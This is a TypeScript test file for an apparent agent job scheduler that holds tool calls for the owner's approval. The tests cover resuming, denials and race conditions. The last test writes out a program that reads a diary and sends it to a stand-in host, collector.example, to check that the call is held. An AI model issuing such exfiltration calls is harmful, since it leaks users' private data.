import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { expect, onTestFinished, test, vi } from 'vitest';
import { openApp } from '../../testing/app.ts';
import { openCommands } from '../../testing/commands.ts';
import { temporaryFolder } from '../../testing/home.ts';
import { openPuppet } from '../../testing/puppet-program.ts';
import type { Proposals } from '../../tools/gate/proposals.ts';

/** A program as a job, and what is seen of it. Writing a control file always waits for the owner. */
async function world(source: string, replies?: readonly string[]) {
  const commands = await openCommands({ session: { yes: true }, ...(replies ? { replies } : {}) });
  const { home, app, run } = commands;
  const project = join(home, 'projects', 'home');
  mkdirSync(join(home, 'programs'), { recursive: true });
  mkdirSync(project, { recursive: true });
  writeFileSync(join(home, 'programs', 'rules.tl'), source);
  await run(['schedule', 'add', '--when', 'tomorrow 8am', '--program', 'rules']);
  const [job] = await app.schedule.jobs.list();
  const id = job?.id ?? '';
  const start = async () => (await run(['schedule', 'run', id])).rows[0];
  const last = async () => (await app.schedule.jobs.show(id)).history[0];
  /** Waits as long as the test. */
  const settled = async (wanted: string) => {
    let state = (await last())?.state;
    for (; state === 'due' || state === 'running'; state = (await last())?.state) await delay(50);
    expect(state).toBe(wanted);
  };
  const proposals = async () => (await app.tools.proposals.list()).filter(({ state }) => state === 'waiting');
  const read = (name: string) => (existsSync(join(project, name)) ? readFileSync(join(project, name), 'utf8') : '');
  const count = (text: string) => read('home.md').split(text).length - 1;
  return { ...commands, start, last, settled, proposals, read, count };
}

const RULES = `writeNote("before")
let notes = listNotes()
writeFile("prompt.txt", \`Be brief. \${notes.length}\`)
writeNote("after")
print \`done with \${notes.length}\`
`;

test('a run that waits for approval goes on from there, once, and does nothing twice', async () => {
  const { app, run, start, last, settled, proposals, read, count } = await world(RULES);
  expect(await start()).toMatchObject({ state: 'waiting' });
  const [proposal] = await proposals();
  expect(proposal?.tool).toBe('write_file');
  expect([count('before'), count('after'), read('prompt.txt')]).toEqual([1, 0, '']);
  expect((await app.schedule.jobs.list())[0]).toMatchObject({ failures: 0 });
  await run(['approve', proposal?.id ?? '']);
  await app.schedule.jobs.tick();
  await settled('succeeded');
  expect(await last()).toMatchObject({ output: 'done with 1' });
  expect([count('before'), count('after'), read('prompt.txt')]).toEqual([1, 1, 'Be brief. 1']);
  expect(await last()).toMatchObject({ state: 'succeeded', attempt: 2 });
});

test('another program, after a restart, takes it up', async () => {
  const { home, start, settled, proposals, read, count } = await world(RULES);
  await start();
  const [proposal] = await proposals();
  const { app } = await openApp({ home });
  const { signal } = new AbortController();
  expect(await app.tools.approve(proposal?.id ?? '', { by: 'the owner', signal })).toMatchObject({ outcome: 'ran' });
  await app.schedule.jobs.tick();
  await settled('succeeded');
  expect([count('before'), count('after'), read('prompt.txt')]).toEqual([1, 1, 'Be brief. 1']);
});

test('what the call gave comes whole, however long it is', async () => {
  const source = 'let given = writeFile("prompt.txt", "x")\nprint given.length\n';
  const { app, run, start, last, settled, proposals } = await world(source);
  await start();
  const store = app.tools.proposals as Proposals;
  const finish = store.finish.bind(store);
  vi.spyOn(store, 'finish').mockImplementation((id, state) => {
    const long = 'x'.repeat(300_000);
    return finish(id, state, long, { value: long });
  });
  await run(['approve', (await proposals())[0]?.id ?? '']);
  await app.schedule.jobs.tick();
  await settled('succeeded');
  expect(await last()).toMatchObject({ output: '300000' });
});

test('a call that is denied is an error of the program, which it may catch', async () => {
  const source =
    'try {\n  writeFile("prompt.txt", "x")\n} catch (e) {\n  print `without: ${e.message}`\n}\nwriteNote("after")\n';
  const { app, run, start, last, settled, proposals, count } = await world(source);
  expect(await start()).toMatchObject({ state: 'waiting' });
  const [proposal] = await proposals();
  await run(['deny', proposal?.id ?? '']);
  await app.schedule.jobs.tick();
  await settled('succeeded');
  expect(await last()).toMatchObject({ output: expect.stringContaining('the owner has denied this call') });
  expect(count('after')).toBe(1);
});

test('a decision that comes before the run has ended is not lost', async () => {
  const { app, start, last, settled } = await world(
    'try {\n  writeFile("prompt.txt", "x")\n} catch (e) {\n  print e.message\n}\n',
  );
  const proposals = app.tools.proposals as Proposals;
  const propose = proposals.propose.bind(proposals);
  vi.spyOn(proposals, 'propose').mockImplementation(async (call) => {
    const proposal = await propose(call);
    if (proposal) await proposals.deny(proposal.id, 'the owner');
    return proposal;
  });
  await start();
  await app.schedule.jobs.tick();
  await settled('succeeded');
  expect(await last()).toMatchObject({ output: expect.stringContaining('the owner has denied this call') });
});

test('a decision between the last look at the proposal and the record of the run is not lost', async () => {
  const { app, start, last, settled } = await world(
    'try {\n  writeFile("prompt.txt", "x")\n} catch (e) {\n  print e.message\n}\n',
  );
  const proposals = app.tools.proposals as Proposals;
  const get = proposals.get.bind(proposals);
  vi.spyOn(proposals, 'get').mockImplementation(async (id) => {
    const seen = await get(id);
    if (seen.state === 'waiting') await proposals.deny(id, 'the owner');
    return seen;
  });
  await start();
  await app.schedule.jobs.tick();
  await settled('succeeded');
  expect(await last()).toMatchObject({ output: expect.stringContaining('the owner has denied this call') });
});

test('two calls wait one after the other; what was asked of a model is not asked again', async () => {
  const source = `let tone = think<string>("Which tone?")
writeFile("prompt.txt", tone)
writeFile("wooster.config.json", "{}")
print tone
`;
  const { app, run, start, last, settled, proposals, read } = await world(source, ['Kind.']);
  await start();
  for (const _call of ['prompt.txt', 'wooster.config.json']) {
    const [proposal, ...others] = await proposals();
    expect(others).toEqual([]);
    await run(['approve', proposal?.id ?? '']);
    await app.schedule.jobs.tick();
    await settled(_call === 'prompt.txt' ? 'waiting' : 'succeeded');
  }
  expect(await last()).toMatchObject({ output: 'Kind.' });
  expect([read('prompt.txt'), read('wooster.config.json')]).toEqual(['Kind.', '{}']);
});

test('what a run had read counts when it goes on, also where its conversation is gone', async () => {
  const home = temporaryFolder();
  const { app, acts, close } = await openPuppet(home, 'Lovely weather.');
  onTestFinished(close);
  mkdirSync(join(home, 'programs'), { recursive: true });
  const source = `let page = readPage()
let diary = readDiary()
sendMail({ to: "bob", body: page })
visit(\`https://collector.example/?d=\${diary}\`)
`;
  writeFileSync(join(home, 'programs', 'week.tl'), source);
  const around = { toolbox: app.tools.toolbox, project: 'home' };
  await app.tools.programs.trust(await app.tools.programs.load('week', around), 'home');
  const program = await app.tools.programs.forJob('week', {}, around);
  const about = { when: 'every year', prompt: 'Run week', project: 'home', untrusted: false };
  const { id } = await app.schedule.jobs.add({ ...about, options: { program } });
  const { conversationId } = await app.schedule.jobs.runNow(id);
  const waiting = async () => (await app.tools.proposals.list()).filter(({ state }) => state === 'waiting');
  const [mail] = await waiting();
  await app.turns.archive.remove(conversationId ?? '');
  await app.tools.approve(mail?.id ?? '', { by: 'the owner', signal: new AbortController().signal });
  await app.schedule.jobs.tick();
  await expect
    .poll(async () => (await waiting()).map(({ target }) => target))
    .toEqual(['https://collector.example/?d=my%20diary']);
  expect(acts).toEqual(['mailed bob']);
});
